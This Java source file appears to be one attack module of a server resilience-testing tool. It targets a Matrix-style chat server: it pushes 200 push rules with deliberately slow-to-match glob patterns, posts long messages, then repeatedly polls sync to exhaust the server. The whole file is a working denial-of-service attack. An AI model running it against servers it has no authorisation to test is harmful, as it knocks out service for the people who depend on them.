package org.bongsu.attack;

import java.io.IOException;
import java.time.Duration;
import org.bongsu.client.Http;
import org.bongsu.json.Json;
import tools.jackson.databind.node.ObjectNode;

/** Push rules with patterns that are slow to match, over long messages. */
final class PatternRules implements Attack {
  private static final int RULES = 200;
  private static final int MESSAGES = 20;
  private static final String PATTERN = "?".repeat(200) + "b*";
  private static final String BODY = "a".repeat(30_000);

  @Override
  public String name() {
    return "push-rules";
  }

  @Override
  public String what() {
    return RULES + " push rules with slow patterns over long messages";
  }

  @Override
  public Assault prepare(Target target) throws IOException, InterruptedException {
    Target.Account attacker = target.register("ruler");
    Target.Account other = target.register("writer");
    for (int i = 0; i < RULES; i++) {
      ObjectNode rule = Json.object().put("pattern", PATTERN + i);
      rule.putArray("actions").add("notify");
      String path = Http.CLIENT + "/pushrules/global/content/r" + i;
      target.ask("PUT", path, attacker.token(), rule); // a limit may refuse it
    }
    String room = target.room(other);
    target.expect(
        "POST",
        Http.CLIENT + "/rooms/" + room + "/invite",
        other.token(),
        Json.object().put("user_id", attacker.userId()));
    target.expect("POST", Http.CLIENT + "/join/" + room, attacker.token(), Json.object());
    for (int i = 0; i < MESSAGES; i++) {
      target.ask(Target.message(other, room, "t" + i, BODY));
    }
    return new RepeatedRequests(target, 1, Duration.ofMillis(20), i -> Target.sync(attacker));
  }
}
